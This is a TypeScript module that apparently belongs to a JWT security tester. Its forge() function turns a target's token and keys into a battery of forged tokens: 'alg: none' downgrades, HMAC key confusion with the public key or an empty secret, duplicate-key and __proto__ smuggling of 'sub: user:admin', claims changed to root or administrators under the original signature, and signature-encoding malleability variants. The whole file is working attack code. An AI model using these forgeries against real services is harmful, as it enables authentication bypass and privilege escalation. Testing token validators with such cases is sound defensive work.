import { createHmac, createPublicKey, generateKeyPairSync, sign } from 'node:crypto'
import type { Target } from './target.ts'

type Members = Record<string, unknown>
type Over = { header?: Members; claims?: Members }

const encoded = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')
const encodedText = (text: string): string => Buffer.from(text).toString('base64url')
const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'

/**
 * Makes hostile tokens from the target's own where that is a JSON Web Token, else from one as the platform would make
 * it. What is signed anew is signed with a key that nobody knows.
 */
export function forge({ token, keys, url }: Target) {
  const key = keys.find(({ kty }) => kty === 'OKP') ?? {}
  const now = Math.floor(Date.now() / 1_000)
  const [head = '', body = '', signature = 'AAAA'] = token.startsWith('eyJ') ? token.split('.') : []
  const header = { ...read(head), alg: 'EdDSA', typ: 'at+jwt', kid: read(head)['kid'] ?? key['kid'] }
  const madeUp = { iss: url, aud: 'plinth', sub: 'user:admin', sid: 'ses_none', iat: now, exp: now + 600 }
  const claims: Members = { ...madeUp, ...read(body) }
  const own = generateKeyPairSync('ed25519')
  const signed = (head: string, body: string): string =>
    `${head}.${body}.${sign(null, Buffer.from(`${head}.${body}`), own.privateKey).toString('base64url')}`
  const whole = head === '' ? signed(encoded(header), encoded(claims)) : token
  const [realHead = '', realBody = '', realSignature = ''] = whole.split('.')
  return {
    token: whole,
    ownJwk: { ...own.publicKey.export({ format: 'jwk' }), kid: 'own', alg: 'EdDSA' },
    signedAs: (over: Over): string =>
      signed(encoded({ ...header, ...over.header }), encoded({ ...claims, ...over.claims })),
    unsigned: (alg: string): string => `${encoded({ ...header, alg })}.${realBody}.${signature}`,
    withSignature: (text: string): string => `${realHead}.${realBody}.${text}`,
    hmac: (secret: 'pem' | 'jwk' | 'raw' | 'empty', alg = 'HS256'): string => {
      const input = `${encoded({ ...header, alg })}.${realBody}`
      return `${input}.${createHmac('sha256', secretOf(key, secret)).update(input).digest('base64url')}`
    },
    twice: (part: 'header' | 'claims'): string =>
      part === 'header'
        ? signed(encodedText(`{"alg":"none",${JSON.stringify(header).slice(1)}`), realBody)
        : signed(realHead, encodedText(`${JSON.stringify(claims).slice(0, -1)},"sub":"user:admin"}`)),
    proto: (): string =>
      signed(realHead, encodedText(`{"__proto__":{"sub":"user:admin"},${JSON.stringify(claims).slice(1)}`)),
    changed: (): string =>
      `${realHead}.${encoded({ ...claims, sub: 'user:root', groups: ['group:administrators'] })}.${realSignature}`,
    /** The same signature with other unused bits in its last character. */
    otherSpelling: (): string => whole.slice(0, -1) + (alphabet[alphabet.indexOf(whole.at(-1) ?? '') ^ 1] ?? ''),
    standardBase64: (): string =>
      `${realHead}.${realBody}.${Buffer.from(realSignature, 'base64url').toString('base64')}`,
    list: (): string => signed(realHead, encoded([claims])),
  }
}

function read(part: string): Members {
  try {
    return JSON.parse(Buffer.from(part, 'base64url').toString()) as Members
  } catch {
    return {}
  }
}

function secretOf(jwk: Members, kind: 'pem' | 'jwk' | 'raw' | 'empty'): string | Buffer {
  if (kind === 'empty' || jwk['kty'] === undefined) return ''
  if (kind === 'jwk') return JSON.stringify(jwk)
  if (kind === 'raw') return Buffer.from(String(jwk['x']), 'base64url')
  return createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' }).toString()
}
